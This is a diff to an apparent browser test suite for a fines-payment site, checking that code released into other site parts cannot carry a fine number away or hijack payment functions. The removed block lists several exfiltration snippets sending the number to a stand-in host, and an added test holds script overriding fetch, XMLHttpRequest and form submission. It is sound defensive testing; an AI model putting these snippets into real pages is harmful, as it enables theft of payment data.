@@ -4,7 +4,11 @@ import { releasePastChecks } from '../set-up/release-past-checks.ts';
 import { expect, test } from '../set-up/test.ts';
 import { openHandOver } from '../pay/set-up/hand-over.ts';
 import { samples } from '@amendes/fines/testing/sample-fines.ts';
+import { sealCopy } from '../set-up/release-copy.ts';
+import type { SiteFolder } from '@amendes/delivery/site/site-folder.ts';
+import { commandsOn } from '../releases/set-up/site-commands.ts';
 import { addCode } from './set-up/add-code.ts';
+import { tryingWays, waysOut } from './set-up/ways-out.ts';
 
 /* What a release of the look-up or of the information pages can do to somebody who pays, in the same page. */
 
@@ -12,17 +16,7 @@ test.use({ expectedErrors: /May not|Refused to|violates the following/ });
 
 const { number } = samples.payable;
 
-/** Each carries the number out; run in the page, which it leaves when it succeeds. */
-const ways: Readonly<Record<string, string>> = {
-  'a new window': `open('https://elsewhere.example/?' + n)`,
-  'a new window that is led on': `open('about:blank').location = 'https://elsewhere.example/?' + n`,
-  'the location': `location.href = 'https://elsewhere.example/?' + n`,
-  'the location, replaced': `location.replace('https://elsewhere.example/?' + n)`,
-  'a link that is clicked by a script': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; document.body.append(a); a.click()`,
-  'a link to a new window': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; a.target = '_blank'; document.body.append(a); a.click()`,
-  'a link that nobody sees': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; a.target = '_blank'; a.click()`,
-  'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://elsewhere.example/?' + n; document.head.append(m)`,
-};
+const ways = waysOut('https://elsewhere.example');
 
 /** The addresses elsewhere that the browser was sent to. */
 function noteDepartures(page: Page): readonly string[] {
@@ -51,6 +45,73 @@ for (const [way, code] of Object.entries(ways)) {
     await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
   });
 }
+
+const elsewhereIn: readonly (readonly [
+  who: string,
+  address: string,
+  part: string,
+  serve: (folder: SiteFolder, hostile: ReturnType<typeof addCode>) => Promise<unknown>,
+])[] = [
+  [
+    'the information pages',
+    '/tai/faq',
+    'static-pages',
+    (folder, hostile) => releasePastChecks(folder, 'static-pages', hostile),
+  ],
+  [
+    // Its guard runs before what was added to it: a shell without the guard is stopped by nothing.
+    'a shell that some tabs try',
+    '/tai',
+    'shell',
+    async (folder, hostile) => {
+      const { release } = await sealCopy(folder, 'shell', hostile);
+      await commandsOn(folder).canary('shell', release.build, 100);
+    },
+  ],
+];
+
+for (const [who, address, part, serve] of elsewhereIn) {
+  test(`code in ${who} carries no number out by any of these ways`, async ({
+    page,
+    fragileSite,
+  }) => {
+    test.setTimeout(90_000);
+    const all = Object.values(ways);
+    await serve(fragileSite.folder, addCode(tryingWays(number, all)));
+    const departures = noteDepartures(page);
+    await page.goto(`${fragileSite.origin}${address}`);
+    const shown = page.locator(`[data-boundary="${part}"]`).first();
+    await expect(shown).toBeVisible();
+    for (const index of all.keys()) {
+      await page.evaluate((which) => dispatchEvent(new Event(`carry-${which}`)), index);
+      await page.waitForTimeout(300);
+    }
+    expect(departures).toEqual([]);
+    await expect(shown).toBeVisible();
+  });
+}
+
+test('no part replaces what a payment is asked for and handed over with', async ({
+  page,
+  fragileSite,
+}) => {
+  const hostile = `
+    globalThis.replaced = [];
+    const attempt = (name, act) => { try { act(); replaced.push(name); } catch {} };
+    const mine = () => { throw Error('mine'); };
+    attempt('fetch', () => { globalThis.fetch = mine; });
+    attempt('window', () => { Object.defineProperty(globalThis, 'fetch', { value: mine }); });
+    attempt('open', () => { globalThis.open = mine; });
+    attempt('XMLHttpRequest', () => { 'use strict'; XMLHttpRequest.prototype.send = mine; });
+    attempt('JSON', () => { 'use strict'; JSON.parse = mine; });
+    attempt('submit', () => { 'use strict'; HTMLFormElement.prototype.submit = mine; });
+    globalThis.kept = ![fetch, open, XMLHttpRequest.prototype.send, JSON.parse,
+      HTMLFormElement.prototype.submit].includes(mine);`;
+  await releasePastChecks(fragileSite.folder, 'lookup', addCode(hostile));
+  await page.goto(`${fragileSite.origin}/tai`);
+  await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'kept') as boolean)).toBe(true);
+});
 
 test('while somebody pays, nothing of another part comes into the page', async ({ page }) => {
   const foreign: string[] = [];
